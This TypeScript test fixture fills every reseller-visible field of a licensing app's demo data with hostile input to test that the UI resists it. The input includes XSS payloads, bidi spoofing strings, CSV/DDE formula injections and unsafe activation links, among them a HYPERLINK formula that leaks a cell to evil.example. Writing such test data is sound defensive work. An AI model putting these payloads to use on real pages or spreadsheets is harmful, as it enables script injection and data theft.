/**
 * Hostile data: strings that try to run script, load from other origins, break the layout,
 * spoof text with bidi controls or start a spreadsheet formula, put into every field a
 * reseller sees (product, order number, user, distribution company, activation code,
 * customer email, organization and name). One demo world holds them, for the stories, the
 * memory client of the browser tests and the demo backend's database alike.
 *
 * Reseller A holds the hostile orders; reseller B holds orders whose activation link is not
 * an https URL, which the contract forbids.
 */
import type { DemoCustomerRecord, DemoLicenseRecord, DemoOrderRecord, DemoWorld } from '../../src/api/memory/demo-data.js';
import { RESELLERS } from '../../src/api/memory/demo-catalog.js';
import { MemoryLicensesClient, MemoryStore } from '../../src/api/memory/memory-client.js';
import type { Product } from '../../src/api/contract/schemas.js';
import type { LicensesParameters } from '../../.storybook/licenses.js';

/** Payloads set this global or open an alert when they run. */
const RUN = `window.__pwned=1;alert(1)`;

export const HOSTILE_STRINGS: readonly string[] = [
  `<img src=x onerror="${RUN}">`,
  `<script>${RUN}</script>`,
  `<svg onload="${RUN}"><circle r=9 /></svg>`,
  `"><img src=x onerror=${RUN}>`,
  `' onmouseover='${RUN}' autofocus onfocus='${RUN}`,
  `<a href="javascript:${RUN}">click</a>`,
  `javascript:${RUN}`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+`,
  `<iframe src="javascript:parent.__pwned=1" srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<img src="https://evil.example/pixel.png"><link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>*{display:none!important}</style><div style="position:fixed;inset:0;background:red">`,
  `\${${RUN}}{{constructor.constructor('${RUN}')()}}`,
  `\u202Efdp.exe\u202C Invoice \u202Bnull\u202A`,
  `\u2067\u202D\u200Funclosed isolate and override`,
  `zero\u200B\u200C\u200D\u2060\uFEFFwidth\u00AD`,
  `=HYPERLINK("https://evil.example/?leak="&A1,"Open")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r\n=1+1,"quoted",comma`,
  'W'.repeat(10_000),
  `<img src=x onerror=${RUN}>`.repeat(400).slice(0, 10_000),
  '\u202E'.repeat(10_000),
];

const A = RESELLERS[0];
const B = RESELLERS[1];

/** Reseller A's user: where resent order confirmations go. */
export const HOSTILE_USER = {
  name: `Dana <img src=x onerror="${RUN}"> Weber`,
  email: `\u202Eelpmaxe.erawtfos-dniwhtron@rebew.anad\u202C <svg onload="${RUN}">`,
};

/** Links that the contract refuses: each in an order of reseller B. */
export const UNSAFE_LINKS: readonly string[] = [
  `javascript:${RUN}`,
  ` JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  '/activate/relative',
  '//evil.example/protocol-relative',
  'http://evil.example/plain-http',
  'https://user:secret@evil.example/credentials',
  'vbscript:msgbox(1)',
];

/** Which fields of each hostile order hold the hostile string. */
export const HOSTILE_FIELDS = [
  'product name',
  'order number',
  'user',
  'order distribution company',
  'activation code',
  'license distribution company',
  'customer email',
  'customer organization',
  'customer first name',
  'customer last name',
] as const;

/** How many hostile values the world holds. */
export const HOSTILE_VALUE_COUNT = HOSTILE_STRINGS.length * HOSTILE_FIELDS.length;

export interface HostileWorldOptions {
  /** The present moment; the orders were bought today, just before it. Default now. */
  now?: Date;
}

function instant(ms: number): string {
  return new Date(Math.floor(ms / 1000) * 1000).toISOString().replace('.000Z', 'Z');
}

/** The hostile demo world; the same options always give the same world. */
export function hostileWorld(options: HostileWorldOptions = {}): DemoWorld {
  const now = (options.now ?? new Date()).getTime();
  // Bought today (UTC), seconds apart, so that the default search (today's orders) lists them.
  const boughtAt = (i: number) => instant(Math.max(now - (now % 86_400_000), now - i * 1000));
  const products: Product[] = [];
  const customers: DemoCustomerRecord[] = [];
  const orders: { order: DemoOrderRecord; licenses: DemoLicenseRecord[] }[] = [];
  const validFrom = instant(now).slice(0, 10);
  const validTo = `${Number(validFrom.slice(0, 4)) + 1}${validFrom.slice(4)}`;
  const license = (order: DemoOrderRecord, n: number, extra: Partial<DemoLicenseRecord>): DemoLicenseRecord => ({
    id: `${order.id}-lic-${n}`,
    orderId: order.id,
    resellerId: order.resellerId,
    activationCode: `HOST-${order.id}-${n}`,
    activationLink: `https://activate.example.com/a/${order.id}-${n}`,
    validFrom,
    validTo,
    recurrent: false,
    customerId: null,
    activatedAt: null,
    distributionCompany: order.distributionCompany,
    ...extra,
  });

  HOSTILE_STRINGS.forEach((text, i) => {
    const product = { id: `prod_hostile_${i}`, name: text };
    products.push(product);
    const customer: DemoCustomerRecord = {
      id: `cus_hostile_${i}`,
      resellerId: A.id,
      email: `${text}@hostile${i}.example`,
      organization: text,
      firstName: text,
      lastName: text,
    };
    customers.push(customer);
    const order: DemoOrderRecord = {
      id: `ord_hostile_${i}`,
      resellerId: A.id,
      orderNumber: text,
      purchasedAt: boughtAt(i),
      user: text,
      productId: product.id,
      amount: { value: 12_345 + i, currency: A.currency },
      paymentType: i % 2 === 0 ? 'credit_card' : 'css_balance',
      state: 'processed',
      distributionCompany: text,
    };
    orders.push({
      order,
      licenses: [
        license(order, 1, { activationCode: text }),
        license(order, 2, { customerId: customer.id, activatedAt: order.purchasedAt, recurrent: true }),
        license(order, 3, { distributionCompany: text, recurrent: true }),
      ],
    });
  });

  UNSAFE_LINKS.forEach((link, i) => {
    const product = { id: `prod_unsafe_${i}`, name: `Unsafe link ${i + 1}` };
    products.push(product);
    const order: DemoOrderRecord = {
      id: `ord_unsafe_${i}`,
      resellerId: B.id,
      orderNumber: `UNSAFE-${i + 1}`,
      purchasedAt: boughtAt(i),
      user: B.user.name,
      productId: product.id,
      amount: { value: 100, currency: B.currency },
      paymentType: 'credit_card',
      state: 'processed',
      distributionCompany: null,
    };
    orders.push({ order, licenses: [license(order, 1, { activationLink: link })] });
  });

  return {
    resellers: [
      { id: A.id, name: A.name, user: { ...HOSTILE_USER }, currency: A.currency, tokenLabel: 'A' },
      { id: B.id, name: B.name, user: { ...B.user }, currency: B.currency, tokenLabel: 'B' },
    ],
    products,
    customers,
    orders: () => orders,
  };
}

/** A memory client over the hostile world, seen as reseller A, or B (the unsafe links). */
export function hostileClient(reseller: 'A' | 'B' = 'A', buyUrl?: string): MemoryLicensesClient {
  const store = MemoryStore.fromWorld(hostileWorld(), buyUrl === undefined ? {} : { buyUrl });
  return new MemoryLicensesClient(store, { resellerId: (reseller === 'A' ? A : B).id });
}

/** Story parameters showing the newest hostile order of reseller A, activated and not. */
export function hostileOrder(): LicensesParameters {
  return {
    memory: () => hostileClient(),
    load: async (memory) => {
      const order = (await memory.searchOrders({ limit: 1 })).items[0];
      return { orderId: order?.id, orderNumber: order?.orderNumber };
    },
  };
}
